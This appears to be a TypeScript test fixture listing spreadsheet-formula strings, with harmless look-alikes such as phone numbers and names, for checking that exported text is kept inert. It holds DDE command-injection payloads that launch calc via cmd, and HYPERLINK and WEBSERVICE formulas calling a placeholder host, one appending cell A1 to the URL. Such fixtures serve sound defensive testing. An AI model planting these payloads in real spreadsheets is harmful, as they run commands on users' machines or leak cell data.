/** Texts that a spreadsheet could run, and harmless ones that only look so. All are data and stay as they are (ADM-16). */

const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const beginnings = ['', ' ', '\t', '\r', '\n', '\u00a0', '\u200b', '\ufeff', "'", '"'];

export const formulas: readonly string[] = [
  ...signs.flatMap((sign) => beginnings.map((beginning) => `${beginning}${sign}1+1`)),
  `=10+20+cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  '=HYPERLINK("http://example.test/?"&A1;"x")',
  '=WEBSERVICE("http://example.test")',
  ';=1+1',
  ',=1+1',
  'a";=1+1',
  'строка\r\n=1+1',
  '\u0000=1+1',
  '-5',
  '+7 900 000-00-00',
  '@ivanov',
  '-',
  '=',
  'e=mc2',
  '%0A=1+1',
  "'тихо'",
  'д’Артаньян',
];
